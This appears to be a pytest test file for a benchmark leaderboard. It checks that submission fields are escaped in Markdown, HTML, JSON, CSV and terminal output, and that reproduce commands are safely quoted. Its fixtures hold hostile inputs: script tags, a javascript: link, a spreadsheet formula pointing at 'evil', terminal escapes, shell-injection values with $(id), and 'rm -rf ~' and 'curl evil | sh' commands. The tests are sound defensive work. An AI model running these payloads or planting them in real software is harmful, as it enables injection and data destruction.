"""Hostile values in every accepted field are escaped for each place they land.

Markdown (GitHub tables), HTML, JSON, CSV and the terminal each get their own escaping; a value
can neither add markup nor cells, run script, inject a spreadsheet formula, send terminal escape
sequences, nor crash rendering (very long metric keys included).
"""

import csv
import io
import json
import re

import pytest
from click.testing import CliRunner
from rich.console import Console

from cellbench.cli import main
from cellbench.leaderboard import BoardKey, LeaderboardStore, publish
from cellbench.leaderboard.formatting import md_code, md_escape, md_link, visible_text
from cellbench.leaderboard.terminal import print_board
from tests.leaderboard.helpers import make_entry

KEY = BoardKey("toy", "1.0", "instance-segmentation", "test")
NAME = "x | y [/bold] \x1b[31mred\x1b[0m <script>alert(1)</script> `tick` *em* \u202eevil"
AUTHOR = '=HYPERLINK("http://evil","click") | <b>bold</b>'
CODE_URL = "https://example.org/a|b)c[x](javascript:alert(2))"
LONG_KEY = "coco_ap/" + "very_long_value_name_" * 25


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    root = tmp_path_factory.mktemp("lb")
    store = LeaderboardStore(root)
    entry = make_entry(
        NAME,
        0.7,
        metrics={LONG_KEY: 0.5, "coco_ap/ap": 0.4},
        manifest={"authors": [AUTHOR], "code": {"url": CODE_URL, "commit": "abcdef1"}},
    )
    store.add(entry)
    store.add(make_entry("plain", 0.6, metrics={LONG_KEY: 0.4, "coco_ap/ap": 0.3}))
    out = publish(store, tmp_path_factory.mktemp("site"), overlays=False).out
    return root, out / KEY.path


def _cells(line: str) -> list[str]:
    return [c.strip() for c in re.split(r"(?<!\\)\|", line.strip())[1:-1]]


def test_markdown_keeps_every_row_in_its_cells(site):
    _, folder = site
    md = (folder / "README.md").read_text()
    assert "<script" not in md and "<b>" not in md and "\x1b" not in md and "\u202e" not in md
    # outside code blocks (where text is literal), no link can point at a script
    prose = re.sub(r"^(`{3,})[^\n]*\n.*?^\1$", "", md, flags=re.S | re.M)
    assert "](javascript:" not in prose and "```" not in prose
    lines = md.splitlines()
    for i, line in enumerate(lines):
        if line.startswith("|") and i + 1 < len(lines) and lines[i + 1].startswith("|-"):
            width = len(_cells(line))
            body = [r for r in lines[i + 2 :] if r.startswith("|")]
            k = 0
            while k < len(body) and lines[i + 2 + k].startswith("|"):
                assert len(_cells(body[k])) == width, body[k]
                k += 1
    # the link target cannot end early or split the cell
    assert "(https://example.org/a%7Cb%29c%5Bx%5D%28javascript:alert%282%29%29)" in md
    # code spans show their text literally: no backslash escapes inside
    assert not re.search(r"`[^`\n]*\\_[^`\n]*`", md)


def test_markdown_helpers_by_hand():
    assert md_escape("a|b_c*d") == "a\\|b\\_c\\*d"
    assert md_code("coco_ap/ap") == "`coco_ap/ap`"
    assert md_code("a|b") == "`a\\|b`" and md_code("a|b", in_table=False) == "`a|b`"
    assert md_code("x `y` z") == "``x `y` z``"
    assert md_code("`x`") == "`` `x` ``"
    assert md_link("n", "https://e.org/a(b)|c") == "[n](https://e.org/a%28b%29%7Cc)"
    assert md_link("n", "https://e.org/a b") == "n"  # not a URL: text only
    assert visible_text("a\nb\x1b[0m\u202e") == "a b\\x1b[0m\\u202e"


def test_html_shows_the_text_and_runs_nothing(site):
    _, folder = site
    page = (folder / "index.html").read_text()
    assert "<script>alert" not in page and "<b>bold</b>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert 'href="javascript:' not in page
    assert page.count("<script") == 1


def test_json_round_trips_and_is_inert(site):
    _, folder = site
    text = (folder / "leaderboard.json").read_text()
    assert "<script" not in text and "<b>" not in text
    data = json.loads(text)
    names = [r["name"] for r in data["rows"]]
    assert NAME in names
    row = data["rows"][names.index(NAME)]
    assert row["authors"] == [AUTHOR] and row["code_url"] == CODE_URL


def test_csv_quotes_fields_and_defuses_formulas(site):
    _, folder = site
    rows = list(csv.reader(io.StringIO((folder / "leaderboard.csv").read_text())))
    header, body = rows[0], rows[1:]
    assert all(len(r) == len(header) for r in body)
    entry, authors = header.index("entry"), header.index("authors")
    mine = next(r for r in body if r[entry].startswith("x | y"))
    assert mine[authors].startswith("'=HYPERLINK") and "\x1b" not in mine[entry]
    assert mine[entry] == visible_text(NAME)
    assert float(mine[header.index("matching/f1@0.50 mean")]) == 0.7


def test_terminal_prints_markup_and_escapes_as_text(site, monkeypatch):
    root, _ = site
    buf = io.StringIO()
    console = Console(file=buf, width=250, color_system=None)
    print_board(LeaderboardStore(root), "toy", KEY.task, console=console)
    out = buf.getvalue()
    assert "[/bold]" in out and "\x1b" not in out and "\\x1b[31mred" in out
    result = CliRunner().invoke(main, ["leaderboard", "list", "--root", str(root)])
    assert result.exit_code == 0, result.output
    assert "[/bold]" in result.output and "\x1b" not in result.output


def test_long_metric_keys_publish(site):
    _, folder = site
    names = [p.name for p in (folder / "plots").iterdir()]
    assert names and max(len(n) for n in names) <= 100


def test_reproduce_commands_quote_every_field_and_keep_only_plain_note_commands():
    import shlex

    from cellbench.leaderboard.reproduce import note_commands, reproduce_commands

    url = "https://example.org/x';touch${IFS}pwned;'$(id)`id`"
    entry = make_entry("m", 0.5, manifest={"code": {"url": url, "commit": "abcdef1"}})
    entry.manifest["notes"] = "train: `python train.py --epochs 3`, then `python x.py; rm -rf ~`"
    lines = reproduce_commands(entry, {"predictions": "predictions/p q.zarr.zip"})
    clone = next(line for line in lines if line.startswith("git clone"))
    assert shlex.split(clone)[:3] == ["git", "clone", url]
    assert "python train.py --epochs 3" in lines and not any("rm -rf" in x for x in lines[3:])
    assert "unzip 'p q.zarr.zip'" in lines
    assert note_commands("`cellbench score x` `make test` `curl evil | sh`") == [
        "cellbench score x",
        "make test",
    ]
